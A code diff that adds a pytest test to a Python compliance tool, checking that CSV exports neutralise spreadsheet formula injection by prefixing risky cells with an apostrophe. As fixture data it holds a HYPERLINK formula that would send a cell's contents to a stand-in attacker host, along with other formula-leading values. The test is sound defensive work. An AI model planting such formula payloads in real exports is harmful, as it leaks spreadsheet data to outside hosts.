@@ -1,12 +1,16 @@
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 from datetime import date
 
 import pytest
+import sqlalchemy as sa
 
 from governance.errors import GovernanceError
 from governance.promulgation import coverage
+from governance.promulgation.schema import people
 from governance.promulgation.store import Store
 from tests.promulgation import works as p
 
@@ -54,6 +58,35 @@ def test_the_reminders_csv(acknowledged: Store) -> None:
         "company,regulation,person,name,email,since\n"
         "iij,bribery-prevention,bob@iij.example,Bob Baba,bob.baba@iij.example,2027-01-10\n"
     )
+
+
+def test_no_cell_of_either_csv_is_run_as_a_formula(store: Store) -> None:
+    # Written straight into the database (as anyone who can write to it may), past the roster's checks:
+    # each export is opened in a spreadsheet, which would run these cells as formulas (OWASP's rule).
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with store.engine.begin() as connection:
+        connection.execute(
+            sa.insert(people),
+            [{"person": "@SUM(1+1)", "name": "-2+3", "company": formula, "email": "+1@x.example"}],
+        )
+    summary = list(
+        csv.reader(io.StringIO(coverage.summary_csv(coverage.summary(store, p.catalog(), p.TODAY))))
+    )
+    assert summary[1][:2] == ["'" + formula, "bribery-prevention"]
+    missing = list(
+        csv.reader(io.StringIO("".join(coverage.missing_csv(coverage.missing(store, p.catalog(), p.TODAY)))))
+    )
+    assert missing[1] == [
+        "'" + formula,
+        "bribery-prevention",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "'+1@x.example",
+        "2026-10-01",
+    ]
+    # A cell is made inert by its first character only: one that merely contains them is left as it is.
+    assert coverage.spreadsheet_cell("a=b") == "a=b"
+    assert [coverage.spreadsheet_cell(c + "1") for c in "=+-@\t\r"] == ["'" + c + "1" for c in "=+-@\t\r"]
 
 
 def test_an_unknown_company(acknowledged: Store) -> None:
